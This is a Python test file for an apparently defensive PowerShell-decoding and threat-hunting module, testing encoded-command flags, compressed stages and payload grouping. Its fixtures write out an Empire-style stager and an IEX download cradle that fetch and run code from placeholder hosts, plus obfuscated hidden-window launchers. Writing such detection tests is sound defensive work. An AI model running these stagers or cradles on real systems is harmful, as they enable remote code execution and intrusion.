"""Encoded PowerShell: flags, layers, compressed stages, traits, indicators, payload grouping."""

from __future__ import annotations

import base64
import gzip
import json
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from huntbook.analytics import decode_powershell, powershell_findings
from huntbook.analytics.powershell import is_encoded_flag, launcher_of

from .conftest import proc, security, system

# A small Empire-style stager (the real ones are in ../shared/data; see test_real_data.py).
C2_B64 = base64.b64encode("http://10.10.10.5".encode("utf-16-le")).decode()
STAGER = (
    "[SYStem.NEt.SeRViCePOINTMaNaGeR]::ExpECt100ContINue=0;$wc=NeW-OBJecT SystEm.NEt.WeBClIEnT;"
    "$u='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko';"
    f"$ser=$([TExt.EnCoDInG]::UnicODE.GeTSTRINg([COnvERt]::FROMBaSe64StRinG('{C2_B64}')));"
    "$t='/admin/get.php';$wc.HEaDERs.ADD('User-Agent',$u);"
    "$K=[SYsTem.TExt.EncodIng]::ASCII.GEtBYTeS('0]rX3Y4:()JchAKkR7Vg+[/Up92tmGQv');"
    "$R={$D,$K=$ArGS;$D|%{$_-bXor$S[0]}};$DATA=$wc.DoWNlOadDaTa($Ser+$t);"
    "-jOin[CHAR[]](& $R $daTa $K)|IEX"
)


def enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def raw_deflate(text: str) -> str:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(packer.compress(text.encode()) + packer.flush()).decode()


# Printable text (the decoder rejects blobs that decode to control characters: not scripts).
SCRIPT_CHARS = st.characters(
    max_codepoint=0x2FFF, exclude_categories=("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Zs")
)


@given(
    st.text(
        alphabet=st.one_of(SCRIPT_CHARS, st.sampled_from(" \r\n\t")), min_size=1, max_size=200
    ).filter(lambda s: s.strip())
)
def test_decode_of_encode_is_identity(script):
    decoded = decode_powershell(f"powershell.exe -NoP -EncodedCommand {enc(script)}")
    assert decoded is not None
    assert decoded.layers[0].kind == "encoded-command"
    assert decoded.layers[0].text == script


@pytest.mark.parametrize(
    "flag", ["-e", "-en", "-enc", "-EnCoDeD", "-encodedcommand", "-EC", "/enc", "\u2013enc"]
)
def test_every_abbreviation_of_encodedcommand(flag):
    decoded = decode_powershell(f'powershell -w hidden {flag} "{enc("Get-Process")}"')
    assert decoded is not None and decoded.script == "Get-Process"


@pytest.mark.parametrize(
    "command_line",
    [
        "powershell -ExecutionPolicy Bypass -File x.ps1",
        "powershell -ex bypass R2V0LVByb2Nlc3M=",  # -ex is -ExecutionPolicy, not -EncodedCommand
        "C:\\Windows\\System32\\wbem\\wmiprvse.exe -secured -Embedding",
        "powershell -enc !!!notbase64!!!",
        "",
        None,
    ],
)
def test_no_encoded_script(command_line):
    assert decode_powershell(command_line) is None


def test_flag_predicate():
    assert all(is_encoded_flag(w) for w in ("e", "ENC", "EncodedCommand", "ec"))
    assert not any(is_encoded_flag(w) for w in ("ex", "ep", "encodedcommandx", "nop"))


def test_nested_encoded_layers():
    inner = "Write-Output 'innermost'"
    middle = f"powershell -nop -enc {enc(inner)}"
    decoded = decode_powershell(f"cmd.exe /c powershell -w 1 -enc {enc(middle)}")
    assert [layer.kind for layer in decoded.layers] == ["encoded-command", "encoded-command"]
    assert decoded.layers[0].text == middle
    assert decoded.script == inner


@pytest.mark.parametrize("stream", ["DeflateStream", "GzipStream"])
def test_compressed_stage_inside_an_encoded_command(stream):
    payload = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
    blob = (
        raw_deflate(payload)
        if stream == "DeflateStream"
        else base64.b64encode(gzip.compress(payload.encode())).decode()
    )
    stage = (
        f"sal a New-Object;iex(a IO.StreamReader((a IO.Compression.{stream}([IO.MemoryStream]"
        f"[Convert]::FromBase64String('{blob}'),[IO.Compression.CompressionMode]::Decompress)),"
        "[Text.Encoding]::ASCII)).ReadToEnd()"
    )
    decoded = decode_powershell(f"powershell -nop -enc {enc(stage)}")
    assert [layer.kind for layer in decoded.layers] == [
        "encoded-command",
        "deflate" if stream == "DeflateStream" else "gzip",
    ]
    assert decoded.script == payload
    assert decoded.family == "download cradle"
    assert decoded.iocs["url"] == ("http://198.51.100.7/a",)
    assert decoded.iocs["ip"] == ("198.51.100.7",)


def test_empire_stager_traits_and_indicators():
    decoded = decode_powershell(f"powershell -noP -sta -w 1 -enc {enc(STAGER)}")
    assert decoded.family == "PowerShell Empire stager"
    assert {"WebClient", "IEX", "RC4 (-bxor)", "$ser (C2 server)", "Empire URI"} <= set(
        decoded.traits
    )
    assert decoded.iocs["c2"] == ("http://10.10.10.5/admin/get.php",)
    assert decoded.iocs["staging_key"] == ("0]rX3Y4:()JchAKkR7Vg+[/Up92tmGQv",)
    assert decoded.iocs["user_agent"][0].startswith("Mozilla/5.0 (Windows NT 6.1")
    assert C2_B64 in decoded.script and "http://10.10.10.5" in decoded.expanded
    assert json.loads(json.dumps(decoded.to_dict()))["family"] == "PowerShell Empire stager"


def test_same_payload_under_different_launchers_has_one_id():
    recased = STAGER.replace("$wc", "$Q1").replace("/admin/get.php", "/news.php").swapcase()
    recased = recased.replace(C2_B64.swapcase(), C2_B64).replace(
        "0]Rx3y4:()jCHakKr7vG+[/uP92TMgqV", "0]rX3Y4:()JchAKkR7Vg+[/Up92tmGQv"
    )
    a = decode_powershell(f"powershell -noP -sta -w 1 -enc {enc(STAGER)}")
    b = decode_powershell(
        f"C:\\Windows\\System32\\cmd.exe /C start /b powershell -w hidden -e {enc(recased)}"
    )
    other = decode_powershell(f"powershell -enc {enc('Get-Process')}")
    assert a.payload_id == b.payload_id != other.payload_id
    assert a.launcher == "powershell -nop -sta -w 1 -enc <payload>"
    assert b.launcher == "cmd /c start /b powershell -w hidden -e <payload>"


def test_launcher_cuts_paths_and_quotes():
    line = '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -noP -enc QUJD'
    assert launcher_of(line, "QUJD") == "powershell -nop -enc <payload>"


def test_findings_group_by_payload_across_hosts_and_launchers(build_store):
    wmi_child = proc(
        "venus",
        1.0,
        "0x51",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        f"powershell -noP -sta -w 1 -enc {enc(STAGER)}",
        user="FROTHLY\\service",
    )
    foothold = security(
        4688,
        "wrk-btun",
        0.5,
        NewProcessName="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        ParentProcessName="C:\\Windows\\System32\\wscript.exe",
        SubjectUserName="billy",
        CommandLine=f"powershell -w hidden -e {enc(STAGER.replace('$wc', '$zz'))}",
    )
    service = system(
        7045,
        "mercury",
        2.0,
        ServiceName="x",
        ImagePath=f"%COMSPEC% /c powershell -enc {enc('whoami')}",
    )
    unrelated = proc("venus", 3.0, "0x1", "C:\\Windows\\notepad.exe", "C:\\Windows\\explorer.exe")
    findings = powershell_findings(build_store([wmi_child, foothold, service, unrelated]))
    empire, other = findings
    assert empire.family == "PowerShell Empire stager" and other.script == "whoami"
    assert empire.hosts == ("wrk-btun", "venus")
    assert empire.accounts == ("billy", "service")
    assert dict(empire.launchers_by_host) == {
        "wrk-btun": ("wscript > powershell -w hidden -e <payload>",),
        "venus": ("wmiprvse > powershell -nop -sta -w 1 -enc <payload>",),
    }
    assert other.launchers == ("service > %comspec% /c powershell -enc <payload>",)
    data = json.loads(json.dumps(empire.to_dict()))
    assert data["count"] == 2 and data["iocs"]["c2"] == ["http://10.10.10.5/admin/get.php"]


def test_gzip_stage_of_a_real_metasploit_service(shared_data):
    """DeepBlueCLI's metasploit-psexec-powershell-target-system.evtx: a 7045 whose ImagePath runs
    ``-c`` with a GzipStream stage (no -enc at all)."""
    import evtx

    path = shared_data / "evtx" / "DeepBlueCLI" / "metasploit-psexec-powershell-target-system.evtx"
    image_paths = []
    for record in evtx.PyEvtxParser(str(path)).records_json():
        data = json.loads(record["data"])["Event"].get("EventData") or {}
        if isinstance(data, dict) and "ImagePath" in data:
            image_paths.append(data["ImagePath"])
    decoded = [d for d in map(decode_powershell, image_paths) if d is not None]
    assert len(decoded) == 1
    (stage,) = decoded
    assert [layer.kind for layer in stage.layers] == ["gzip"]
    assert stage.family == "Metasploit PowerShell payload"
    assert "VirtualAlloc" in stage.script
    assert "h4sia" not in stage.launcher  # the stage is elided, the launcher cut short
    assert stage.launcher.startswith("%comspec% /b /c start /b /min powershell -nop -w hidden -c ")
    assert len(stage.launcher) <= 160


def test_engine_events_parsed_from_message_and_counted_once(build_store):
    line = f"C:\\Windows\\System32\\powershell.exe -noP -sta -w 1 -enc {enc(STAGER)}"
    message = (
        'Provider "Registry" is Started.\r\n\r\nDetails:\r\n\tHostApplication={}\r\n\tEngine=5'
    )
    events = [security(800, "wrk-btun", float(i), Message=message.format(line)) for i in range(5)]
    events.append(security(800, "wrk-btun", 9.0, Message=message.format("powershell.exe -nop")))
    (finding,) = powershell_findings(build_store(events))
    assert finding.events == 5 and len(finding.evidence) == 1
    assert finding.launchers == ("powershell host > powershell -nop -sta -w 1 -enc <payload>",)
    assert finding.family == "PowerShell Empire stager"


def test_only_events_behind_a_decoding_text_reach_python(build_store, monkeypatch):
    """Forty copies of a plain PowerShell command line (it mentions ``-e``xecutionpolicy) come
    to Python as one distinct text; the events fetched are only those of the encoded one."""
    import importlib

    module = importlib.import_module("huntbook.analytics.powershell_findings")
    fetched: list[int] = []
    real_rows = module.rows

    def counting(con, query):
        found = real_rows(con, query)
        fetched.append(len(found))
        return found

    monkeypatch.setattr(module, "rows", counting)
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    plain = "powershell.exe -ExecutionPolicy Bypass -File C:\\inventory.ps1"
    events = [proc("venus", float(i), "0x1", ps, "svchost.exe", plain) for i in range(40)]
    events += [
        proc("venus", 50.0 + i, "0x2", ps, "wmiprvse.exe", f"powershell -enc {enc('whoami')}")
        for i in range(2)
    ]
    (finding,) = powershell_findings(build_store(events))
    assert (finding.script, finding.events, len(finding.evidence)) == ("whoami", 2, 2)
    assert sum(fetched) == 2 + 2  # two distinct texts, then the two encoded events
